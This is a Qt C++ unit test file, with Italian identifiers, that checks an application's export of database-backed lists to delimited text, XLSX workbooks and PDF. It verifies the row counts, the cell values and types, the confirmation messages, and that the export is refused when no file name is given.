             QSet<QString>({file, dir.filePath("Insieme (2).pdf")}));
    for (const QString& s : scritti) {
        const QByteArray b = Contenuto(s);
        QVERIFY(b.startsWith("%PDF-"));
        QVERIFY(b.trimmed().endsWith("%%EOF"));
    }
    QCOMPARE(QDir(dir.path()).entryList(QDir::Files | QDir::Hidden).size(), 2);
}

void TstFileStampa::messaggioFileScritto_data() {
    QTest::addColumn<int>("formato");
    QTest::addColumn<QString>("nome");
    QTest::addColumn<QString>("attesa");
    QTest::newRow("compatibile excel") << int(FormatoFile::CompatibileExcel) << "lista.csv"
                                       << "File %1 scritto: 3 righe";
    QTest::newRow("xlsx") << int(FormatoFile::Excel) << "lista.xlsx"
                          << "File %1 scritto: 3 righe";
    QTest::newRow("pdf") << -1 << "Lista"
                         << "File %1.pdf scritto: 3 righe in 1 pagine";
}

void TstFileStampa::messaggioFileScritto() {
    // After the file is written the clerk is told where it is and how many
    // rows it holds.
    PROVA_SOLO_PRIMO_MOTORE();
    QFETCH(int, formato);
    QFETCH(QString, nome);
    QFETCH(QString, attesa);
    QTemporaryDir dir;
    const QString file = dir.filePath(nome);
    MessaggiScriptati msg;
    ListaMemoria l = Esempio();
    Stampa s;
    OpzioniStampa o(QStringLiteral("Prova"));
    s.setOgOpzSta(&o);
    if (formato < 0) {
        o.oiStaVid = DestStampa::Stampante;
        o.setValore(QStringLiteral("PdfAutomAbil"), true);
        o.setValore(QStringLiteral("PdfNomeFile"), file);
    } else {
        o.oiStaVid = DestStampa::File;
        o.oiFileForm = qint16(formato);
        o.osFileName = file;
    }
    RichiestaStampaLista r;
    r.colonne = "V";
    r.titolo = "Lista";
    s.StampaLista(l, r);
    QCOMPARE(msg.testi(), QStringList{attesa.arg(file)});
    QCOMPARE(msg.mostrati().front().stile, int(vbInformation));
}

void TstFileStampa::listaReale() {
    // The grid's list of a real database printed to delimited text and to a
    // workbook by the print object; every row read back equals the row of
    // the list, in the list's order.
    QFETCH_GLOBAL(Motore, motore);
    SALTA_SENZA_SERVER(motore);
    QSqlDatabase db =
        ConnessioneProva(motore, QString::fromLatin1(NomeMotore(motore)), File("reale.db"), m_pg);
    QVERIFY2(db.open(), qPrintable(db.lastError().text()));
    const int n = 1500;
    {
        QSqlQuery q(db);
        q.exec(QStringLiteral("DROP TABLE IF EXISTS Voci"));
        QVERIFY2(q.exec(QStringLiteral("CREATE TABLE Voci (Cod VARCHAR(10) PRIMARY KEY, "
                                       "Descrizione VARCHAR(40), Qta DOUBLE PRECISION, "
                                       "Giorno DATE)")),
                 qPrintable(q.lastError().text()));
        db.transaction();
        q.prepare(QStringLiteral("INSERT INTO Voci VALUES (?, ?, ?, ?)"));
        for (int i = 0; i < n; ++i) {
            q.addBindValue(QStringLiteral("C%1").arg(i, 4, 10, QLatin1Char('0')));
            q.addBindValue(QStringLiteral("Voce; \"%1\"").arg(i));
            q.addBindValue(i % 7 == 0 ? QVariant() : QVariant(i * 10.25));
            q.addBindValue(QDate(2024, 1, 1).addDays(i % 366));
            QVERIFY2(q.exec(), qPrintable(q.lastError().text()));
        }
        db.commit();
    }
    QWidget form;
    auto* l = new QVBoxLayout(&form);
    auto* tb = new QToolBar(&form);
    auto* contatore = new QLineEdit(&form);
    auto* g = new listcmd::Griglia(&form);
    l->addWidget(tb);
    l->addWidget(contatore);
    l->addWidget(g);
    listcmd::Comlin c;
    c.setOgForm(&form);
    c.setOgToolbar(tb);
    c.setOgContatore(contatore);
    c.setOgGriglia(g);
    c.setOgDati(g->Dati());
    c.setOgDatabase(db);
    c.setOsFormatoData(QStringLiteral("dd/mm/yyyy"));
    c.setOiAbilRW(1);
    c.ApriSql(QStringLiteral("SELECT Cod, Descrizione, Qta, Giorno FROM Voci ORDER BY Cod"));
    c.FormatoColonna(QStringLiteral("Qta"), QStringLiteral("#,##0.00"));
    c.NascondiColonna(QStringLiteral("Giorno"));
    IListaLettura* lista = c.Lista();
    QVERIFY(lista);
    QVector<RigaLettura> attese;
    for (qint64 da = 0;; da += 400) {
        const auto parte = lista->righe(da, 400);
        attese += parte;
        if (parte.size() < 400)
            break;
    }
    QCOMPARE(attese.size(), n);

    Stampa s;
    OpzioniStampa o(QStringLiteral("Prova"));
    s.setOgOpzSta(&o);
    o.oiStaVid = DestStampa::File;
    RichiestaStampaLista r;
    r.colonne = QStringLiteral("V");
    r.titolo = QStringLiteral("Voci");

    // delimited text, numbers as the list shows them
    o.oiFileForm = FormatoFile::Testo;
    o.osSepCampi = QStringLiteral(";");
    o.osDelimStr = QStringLiteral("\"");
    o.osFileName = File("reale.txt");
    QCOMPARE(s.StampaLista(*lista, r), qint64(n));
    QCOMPARE(StampaAttiva(), qint16(0)); // the flag is down again
    LEGGI(delimitato, "csv", o.osFileName, ";", "\"");
    const QList<QStringList> testo = RigheTesto(delimitato);
    QCOMPARE(testo.size(), n + 1);
    QCOMPARE(testo[0], (QStringList{"Cod", "Descrizione", "Qta"}));
    for (int i = 0; i < n; ++i)
        QCOMPARE(testo[i + 1], attese[i].testi.mid(0, 3));

    // the workbook: numbers as numbers
    o.oiFileForm = FormatoFile::Excel;
    o.osFileName = File("reale.xlsx");
    QCOMPARE(s.StampaLista(*lista, r), qint64(n));
    LEGGI(cartella, "xlsx", o.osFileName);
    const QJsonArray righe = cartella.value("righe").toArray();
    QCOMPARE(righe.size(), n + 1);
    for (int i = 0; i < n; ++i) {
        const QJsonArray x = righe[i + 1].toArray();
        QCOMPARE(x[0].toString(), attese[i].valori[0].toString());
        QCOMPARE(x[1].toString(), attese[i].valori[1].toString());
        if (attese[i].valori[2].isNull())
            QVERIFY(x.size() < 3 || x[2].isNull());
        else
            QCOMPARE(x[2].toDouble(), attese[i].valori[2].toDouble());
    }

    // every column: the dates of the database (text in SQLite, dates in
    // PostgreSQL) are date cells
    r.colonne = QStringLiteral("T");
    o.osFileName = File("reale-date.xlsx");
    QCOMPARE(s.StampaLista(*lista, r), qint64(n));
    LEGGI(conDate, "xlsx", o.osFileName);
    QCOMPARE(conDate.value("tipi").toArray()[1].toArray()[3].toString(), QString("datetime"));
    QCOMPARE(conDate.value("righe").toArray()[1].toArray()[3].toString(),
             attese[0].valori[3].toDate().isValid()
                 ? attese[0].valori[3].toDate().toString(Qt::ISODate)
                 : attese[0].valori[3].toString().left(10));
    r.colonne = QStringLiteral("V");

    // no file name: refused before anything is written
    o.osFileName.clear();
    QVERIFY_THROWS_EXCEPTION(Errore, s.StampaLista(*lista, r));
    QCOMPARE(StampaAttiva(), qint16(0));
    db.close();
}

QTEST_MAIN(TstFileStampa)
#include "tst_filestampa.moc"
